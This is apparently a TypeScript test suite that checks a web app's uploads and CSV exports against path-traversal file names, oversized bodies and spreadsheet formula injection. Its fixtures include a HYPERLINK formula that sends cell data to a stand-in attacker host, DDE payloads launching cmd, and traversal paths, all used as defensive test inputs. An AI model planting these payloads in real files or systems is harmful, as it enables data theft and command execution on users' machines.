/**
 * Uploads and exports: hostile file names never reach the file system or a header, oversized files and
 * bodies are refused with 413 leaving nothing behind, and CSV exports never hand a spreadsheet a
 * formula (source: OWASP "CSV Injection": cells starting with = + - @ tab or carriage return).
 */
import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from '../../src/testing/make-test-app.js';
import { stateDigest } from './support/fuzz-harness.js';

const CSV = 'time,amps\n2026-03-02T08:00:00Z,1.5\n2026-03-02T08:00:01Z,9.25\n2026-03-02T08:00:02Z,8.5\n';

/** Payloads a spreadsheet would run as formulas. */
const FORMULAS = ['=HYPERLINK("http://attacker.test/?x="&A1,"Click")', '+1+2', '-3+cmd|\' /C calc\'!A0', '@SUM(1,1)', '=1+1\tnext', '=cmd|\' /C notepad\'!A1'];

describe('uploads', () => {
  let t: TestApp;
  let headers: Record<string, string>;
  beforeAll(async () => {
    // A small sample limit, so "oversized" is cheap to send.
    t = await makeTestApp({ config: { sampleBodyLimit: '64kb', jsonBodyLimit: '32kb' } });
    headers = await t.auth('engineer');
  });
  afterAll(() => t.close());

  const marker = randomUUID();
  const TRAVERSALS = [
    `../../../../../../tmp/headroom-traversal-${marker}.csv`,
    `..\\..\\..\\..\\tmp\\headroom-traversal-${marker}.csv`,
    `/tmp/headroom-traversal-${marker}-absolute.csv`,
    `%2e%2e%2f%2e%2e%2ftmp%2fheadroom-traversal-${marker}.csv`,
    `trace.csv\u0000/../../tmp/headroom-traversal-${marker}`,
    `${'a'.repeat(4096)}.csv`,
  ];

  it.each(TRAVERSALS.map((f) => [f.slice(0, 60), f]))('when a file named %s is imported, then it is read as data and nothing is written under that name', async (_label, filename) => {
    const res = await request(t.app).post('/api/v1/traces/import').set(headers).field('name', 'Traversal probe').attach('file', Buffer.from(CSV), { filename, contentType: 'text/csv' });
    expect(res.status, res.text).toBe(201);
    expect(res.body.import.accepted).toBe(3);
    expect(res.text).not.toContain('headroom-traversal');
    const leftovers = readdirSync(tmpdir()).filter((f) => f.includes(marker));
    expect(leftovers).toEqual([]);
    expect(existsSync(path.resolve(process.cwd(), '..', 'tmp'))).toBe(false);
  });

  it('when an imported file is over the limit, then 413 and no trace is kept', async () => {
    const before = await stateDigest(t);
    const rows = Array.from({ length: 4000 }, (_, i) => `${new Date(Date.UTC(2026, 2, 2, 8) + i * 1000).toISOString()},${(i % 50) / 3}`);
    const big = Buffer.from(`time,amps\n${rows.join('\n')}\n`);
    expect(big.length).toBeGreaterThan(64 * 1024);
    const res = await request(t.app).post('/api/v1/traces/import').set(headers).field('name', 'Too big').attach('file', big, { filename: 'big.csv', contentType: 'text/csv' });
    expect(res.status, res.text).toBe(413);
    expect(res.body.type).toBe('/problems/too-large');
    expect(await stateDigest(t)).toEqual(before);
  });

  it('when a sample body is over the limit in any format, then 413 and the trace keeps what it had', async () => {
    const trace = (await request(t.app).post('/api/v1/traces').set(headers).send({ name: 'Limit probe', kind: 'rms' })).body as { id: string };
    const n = 12_000;
    const times = Array.from({ length: n }, (_, i) => 1_772_438_400_000 + i * 100);
    const bodies: Array<[string, Buffer | string]> = [
      ['application/json', JSON.stringify({ t: times, a: times.map(() => 1.25) })],
      ['application/x-ndjson', times.map((t) => JSON.stringify({ t, a: 1.25 })).join('\n')],
      ['text/csv', `t,a\n${times.map((t) => `${t},1.25`).join('\n')}`],
      ['application/octet-stream', Buffer.from(new Float64Array(n).fill(1.25).buffer)],
    ];
    const before = await stateDigest(t);
    for (const [contentType, body] of bodies) {
      const req = request(t.app).post(`/api/v1/traces/${trace.id}/samples`).set(headers).set('Content-Type', contentType);
      const res = contentType === 'application/octet-stream' ? await req.query({ start: times[0], rate: 10 }).send(body) : await req.send(body);
      expect(res.status, `${contentType}: ${res.text}`).toBe(413);
      expect(res.body.type).toBe('/problems/too-large');
    }
    expect(await stateDigest(t)).toEqual(before);
  });

  it('when an ordinary JSON body is over its limit, then 413 and nothing is stored', async () => {
    const before = await stateDigest(t);
    const res = await request(t.app).post('/api/v1/sites').set(headers).send({ name: 'Big notes', notes: 'x'.repeat(40 * 1024) });
    expect(res.status).toBe(413);
    expect(res.body.type).toBe('/problems/too-large');
    expect(await stateDigest(t)).toEqual(before);
  });

  it('when a form has too many parts before its file, then 400 and nothing is stored', async () => {
    const before = await stateDigest(t);
    let form = request(t.app).post('/api/v1/traces/import').set(headers).field('name', 'Many parts');
    for (let i = 0; i < 80; i++) form = form.field(`extra${i}`, 'x');
    const many = await form.attach('file', Buffer.from(CSV), 'a.csv');
    expect(many.status, many.text).toBe(400);
    expect(await stateDigest(t)).toEqual(before);
  });

  // The first file is read (and its chunks written as pending) before the second one shows up: the
  // import waits for the whole form before it commits, so the second file leaves nothing behind.
  it('when a form carries two files, then 400 and nothing is stored', async () => {
    const before = await stateDigest(t);
    const two = await request(t.app).post('/api/v1/traces/import').set(headers).field('name', 'Two files').attach('file', Buffer.from(CSV), 'a.csv').attach('file', Buffer.from(CSV), 'b.csv');
    expect(two.status, two.text).toBe(400);
    expect(two.body.detail).toMatch(/exactly one file/);
    expect(await stateDigest(t)).toEqual(before);
  });
});

describe('CSV exports', () => {
  let t: TestApp;
  let headers: Record<string, string>;
  let siteId: string;
  let circuitId: string;
  let traceId: string;

  beforeAll(async () => {
    t = await makeTestApp();
    headers = await t.auth('engineer');
    const site = await request(t.app).post('/api/v1/sites').set(headers).send({ name: FORMULAS[0], address: FORMULAS[1], clientContact: FORMULAS[3], notes: FORMULAS[2] });
    expect(site.status, site.text).toBe(201);
    siteId = site.body.id;
    const circuit = await request(t.app)
      .post(`/api/v1/sites/${siteId}/circuits`)
      .set(headers)
      .send({ label: FORMULAS[3], nominalVoltageV: 120, mainsHz: 60, deviceRatingA: 20, deviceKind: 'na-thermal-magnetic', notes: FORMULAS[4] });
    expect(circuit.status, circuit.text).toBe(201);
    circuitId = circuit.body.id;
    for (const name of FORMULAS) {
      const load = await request(t.app).post(`/api/v1/circuits/${circuitId}/loads`).set(headers).send({ name, nameplateA: 2, connection: 'cord-and-plug', notes: name });
      expect(load.status, load.text).toBe(201);
    }
    const trace = await request(t.app).post('/api/v1/traces/import').set(headers).field('name', FORMULAS[5]!).field('circuitId', circuitId).attach('file', Buffer.from(CSV), 'x.csv');
    expect(trace.status, trace.text).toBe(201);
    traceId = trace.body.trace.id;
  });
  afterAll(() => t.close());

  /** Cells a spreadsheet would run: starting with = + - @ tab or CR, unless the cell is a plain number. */
  function formulaCells(csv: string): string[] {
    const rows = parse(csv, { relax_column_count: true, bom: true }) as string[][];
    return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell));
  }

  it.each([
    ['circuit report', () => `/api/v1/circuits/${circuitId}/report?format=csv`],
    ['site report', () => `/api/v1/sites/${siteId}/report?format=csv`],
    ['trace samples', () => `/api/v1/traces/${traceId}/samples?format=csv`],
  ])('when the %s is exported as CSV, then no cell is a formula', async (_name, url) => {
    const res = await request(t.app).get(url()).set(headers).buffer(true).parse((r, done) => {
      let text = '';
      r.on('data', (c: Buffer) => (text += c.toString('utf8')));
      r.on('end', () => done(null, text));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const csv = res.body as string;
    expect(formulaCells(csv)).toEqual([]);
    if (!url().includes('/samples')) {
      // The hostile names are in the export, defused (not dropped).
      expect(csv).toContain('HYPERLINK');
      expect(csv).toContain('@SUM(1,1)');
    }
  });

  it('when a report is named after hostile text, then its file name is a plain slug', async () => {
    const res = await request(t.app).get(`/api/v1/sites/${siteId}/report?format=csv`).set(headers);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[A-Za-z0-9._-]+"$/);
  });
});
